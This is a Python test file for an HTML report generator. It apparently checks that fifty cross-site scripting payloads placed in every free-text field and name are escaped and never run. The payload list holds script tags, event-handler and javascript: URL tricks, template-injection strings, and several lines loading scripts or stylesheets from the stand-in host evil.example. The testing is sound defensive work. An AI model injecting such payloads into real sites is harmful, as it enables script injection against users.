"""Script payloads in every free-text field of a study: none runs, none is in the file as it was."""

import base64
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import duckdb
import pytest
from playwright.sync_api import expect

from primum.agents.models.client import Reply
from primum.agents.models.outcomes import Outcome
from primum.agents.protocols.protocol import Protocol
from primum.agents.specs.model import AgentSpec, ModelSpec
from primum.agents.studies.study import Contrast, Study
from primum.agents.topologies.ensemble import EnsembleSpec
from primum.agents.topologies.registry import ensemble_of
from primum.agents.turns.transcript import (
    Answer,
    Call,
    JudgedAction,
    Judgement,
    OptionVerdict,
    Turn,
)
from primum.cases.model import (
    Case,
    Consultation,
    Option,
    Suite,
    SuiteInfo,
    Variant,
    VariantMetadata,
)
from primum.evaluation.html_report.render import report
from primum.evaluation.store.database import Store
from primum.evaluation.store.recorder import Recorder
from primum.evaluation.store.schema import TABLES
from primum.tests.wired import wired

pytestmark = pytest.mark.long

HIT = "window.hit=1"
TAGGED = [
    f"<script>{HIT}</script>",
    f"</script><script>{HIT}</script>",
    f"</SCRIPT ><SCRIPT>{HIT}//",
    f"<!--<script>{HIT}</script>-->",
    f"]]><script>{HIT}</script>",
    f"</style><script>{HIT}</script>",
    f"</title><script>{HIT}</script>",
    f"</textarea><script>{HIT}</script>",
    f"</noscript><script>{HIT}</script>",
    f"<scr<script>ipt>{HIT}</script>",
    f"<script src=data:,{HIT}></script>",
    "<script src=//evil.example/x.js></script>",
    f"<img src=x onerror={HIT}>",
    f"<img/src=x/onerror={HIT}//",
    f'"><img src=x onerror="{HIT}">',
    f"'><img src=x onerror='{HIT}'>",
    f"`><img src=x onerror={HIT}>",
    f"<IMG SRC=javascript:{HIT}>",
    f"<svg onload={HIT}>",
    f"<svg><script>{HIT}</script></svg>",
    f"<svg><animate onbegin={HIT} attributeName=x dur=1s>",
    f"<svg><a xlink:href=javascript:{HIT}><text>x</text></a></svg>",
    f"<svg><use href=data:image/svg+xml,{HIT}></svg>",
    f"<math><mtext><img src=x onerror={HIT}></mtext></math>",
    f"<body onload={HIT}>",
    f"<iframe srcdoc='<script>parent.{HIT}</script>'></iframe>",
    f"<iframe src=javascript:parent.{HIT}></iframe>",
    f"<object data=javascript:{HIT}></object>",
    f"<embed src=javascript:{HIT}>",
    f"<details open ontoggle={HIT}><summary>x</summary></details>",
    f"<input autofocus onfocus={HIT}>",
    f"<select autofocus onfocus={HIT}></select>",
    f"<video><source onerror={HIT}></video>",
    f"<audio src=x onerror={HIT}></audio>",
    f"<marquee onstart={HIT}>x</marquee>",
    f"<a href=javascript:{HIT}>x</a>",
    f"<a href='data:text/html,<script>{HIT}</script>'>x</a>",
    f"<form action=javascript:{HIT}><button>x</button></form>",
    f"<x onclick={HIT} style=position:fixed;inset:0>x</x>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    f"<meta http-equiv=refresh content='0;url=javascript:{HIT}'>",
]
BARE = [
    f"';{HIT};'",
    f'";{HIT};"',
    f"${{{HIT}}}",
    f"{{{{ self.__init__ }}}} {{% set x = {HIT} %}}",
    f"javascript:{HIT}",
    f"\u2028{HIT}\u2029",
    f"%3Cscript%3E{HIT}%3C/script%3E &lt;script&gt;{HIT}&lt;/script&gt;",
]
PAYLOADS = TAGGED + BARE
ALL = "\n".join(PAYLOADS)
OPEN_ALL = "document.querySelectorAll('details').forEach((part) => { part.open = true; })"
HARMLESS = set(
    """a abbr article b body br button caption code dd details div dl dt em fieldset figcaption figure
    footer form h1 h2 h3 head header html i input label legend li main meta nav noscript ol optgroup
    option p pre script section select small span strong style summary table tbody td th thead title
    tr ul wbr""".split()
) - {"form", "br"}


@pytest.fixture(scope="module")
def hostile_page(tmp_path_factory: pytest.TempPathFactory, analyse: Callable[..., None]) -> Path:
    """The report of a study of plans whose every free text is a payload, and its names are too."""
    folder = tmp_path_factory.mktemp("hostile")
    study, suite = hostile_study()
    store = folder / "store.duckdb"
    recorder = Recorder(Store(store), study, suite)
    for spec in study.ensembles:
        for item in suite.items():
            recorder.add(answer(spec, item.id))
    recorder.finish()
    analyse(store, study, ALL)
    with duckdb.connect(store) as connection:  # names cannot hold this; a store made by hand may
        for table in TABLES:
            if "ensemble" in [column.name for column in table.columns]:
                connection.execute(f"update {table.name} set ensemble = ensemble || ?", [ALL])
        connection.execute("update turns set seat = seat || ?, about = ?", [ALL] * 2)
        connection.execute(
            "update agents set model = model || ?, family = ?, access = ?", [ALL] * 3
        )
        connection.execute("update comparisons set other = ?, adjustment = ?", [ALL] * 2)
        connection.execute("update cautions set caution = ?", [ALL])
        connection.execute("update items set specialty = ?", [ALL])
        connection.execute("update options set category = ?", [ALL])
    path = folder / "page.html"
    path.write_text(report(folder, None)[1], encoding="utf-8")
    return path


def hostile_study() -> tuple[Study, Suite]:
    options = tuple(
        Option(
            id=n,
            text=text,
            category="Diagnostic",
            score=1 + n % 9,
            reason=ALL,
            guideline=ALL,
            abstraction=ALL if n < 3 else None,
            abstraction_type="alternative" if n < 3 else None,
        )
        for n, text in enumerate(PAYLOADS)
    )
    case = Case(id="Card1", case=Consultation(presentation=ALL), options=options)
    variant = Variant(
        id="Card1-0", prompt=ALL, metadata=VariantMetadata(base_id="Card1", category=ALL)
    )
    info = SuiteInfo(name="hostile", version=ALL, licence=ALL, citation=ALL, notice=ALL)
    ann = AgentSpec(model="ann", instructions=ALL, params={"user": ALL})
    model = ModelSpec(
        id=f"sim/{TAGGED[0]}", family="other:x", access="open", params={"x": ALL}, revision=ALL
    )
    study = Study(
        suite=info,
        suite_digest="0" * 64,
        protocol=Protocol(name="plan", form="concise"),
        matcher=f"lexical/{ALL}",
        trials=1,
        seed=0,
        version=ALL,
        models={"ann": model, "ben": model},
        ensembles=(
            ensemble_of(
                name="duo", graph="panel", generators=(ann, ann), critics=(ann,), aggregator=ann
            ),
            ensemble_of(name="ann", graph="solo", generators=(ann,)),
        ),
        contrasts=(Contrast(ensemble="duo", against="ann", metric="Severe_rate"),),
    )
    suite = Suite(info=info, cases=(case,), variants=(variant,))
    from primum.agents.studies.archive import suite_digest

    return study.model_copy(update={"suite_digest": suite_digest(suite)}), suite


def answer(spec: EnsembleSpec, item: str) -> Answer:
    if item.endswith("-0"):
        return Answer(spec.name, item, 1, Outcome.INVALID, ALL, None, turns(spec, Outcome.INVALID))
    verdicts = tuple(
        OptionVerdict(n, "full" if n % 2 else "none", ALL) for n in range(len(PAYLOADS))
    )
    actions = (JudgedAction(1, ALL, ALL, (1,)), JudgedAction(2, ALL, ALL, (), 1))
    judgement = Judgement(
        "lexical/x", Outcome.OK, "", verdicts, actions, turns=turns(spec, Outcome.OK)[:1]
    )
    return Answer(spec.name, item, 1, Outcome.OK, "", None, turns(spec, Outcome.OK), ALL, judgement)


def turns(spec: EnsembleSpec, outcome: Outcome) -> tuple[Turn, ...]:
    grades = json.dumps([{"Option": n, "GradeAI": ALL, "Rationale": ALL} for n in range(4)])
    found = []
    for seat, role, agent in spec.seats:
        text = grades if role == "critic" else ALL
        reply = Reply(outcome=Outcome.OK, text=text, returned_model=ALL, cost=None, seconds=1.0)
        call = Call(f"{spec.name} {seat} {outcome}", agent.model, reply)
        about = "generator-1" if role == "critic" else None
        found.append(Turn(seat, role, "ann", outcome, ALL, (), (call,), about))
    return wired(spec, found)


def test_there_are_fifty() -> None:
    assert len(PAYLOADS) == len(set(PAYLOADS)) == 50


def test_no_payload_is_in_the_file_as_it_was(hostile_page: Path, parse: Any) -> None:
    html = hostile_page.read_text()
    assert [payload for payload in TAGGED if payload in html] == []
    parsed = parse(html)
    assert {tag for tag, _ in parsed.tags} <= HARMLESS
    for tag, attributes in parsed.tags:
        assert not [name for name in attributes if name.startswith("on") or name == "src"]
        assert (attributes.get("href") or "#").startswith("#"), tag
    running = [
        a
        for t, a in parsed.tags
        if t == "script" and (a.get("type") or "x") not in {"application/json", "text/plain"}
    ]
    assert len(running) == 1
    for payload in PAYLOADS[:5]:  # what was said is there all the same
        assert payload.splitlines()[0] in " ".join(parsed.text)


def test_no_payload_runs(hostile_page: Path, opened: Callable[..., Any]) -> None:
    page = opened(hostile_page).page
    page.evaluate(OPEN_ALL)
    page.locator("#cases-title").scroll_into_view_if_needed()
    page.wait_for_selector("#case .options")
    expect(page.locator("#case .options tbody tr td.text")).to_have_count(50)
    page.evaluate(OPEN_ALL)
    page.keyboard.press("j")
    expect(page.locator("#case h3")).to_have_text("Card1-0")
    drawn = (
        "frontier failures flows effects shapley_values correlations sizes ceilings scatter".split()
    )
    for figure in drawn:
        page.locator(f"#{figure}").scroll_into_view_if_needed()
        page.wait_for_selector(f"#{figure} .canvas[data-drawn] svg.main-svg")
    assert page.locator(".canvas :is(a, script, img, foreignObject)").count() == 0
    page.check("#answered")
    expect(page.locator("#leaderboard-note")).to_contain_text("Answered only")
    page.select_option("#by-category", index=1)
    expect(page.locator("#leaderboard-note")).to_contain_text("Plain means")
    assert page.evaluate("typeof window.hit") == "undefined"
    assert page.url.startswith("file://")


def test_names_in_links_are_encoded(hostile_page: Path, parse: Any) -> None:
    links = [
        a["href"]
        for t, a in parse(hostile_page.read_text()).tags
        if t == "a" and "ensemble=" in (a.get("href") or "")
    ]
    assert len(links) == 2
    assert all(set(link) <= set(base64_safe()) for link in links)


def base64_safe() -> str:
    letters = base64.b64encode(bytes(range(256))).decode()
    return letters + "#=%-_.~"
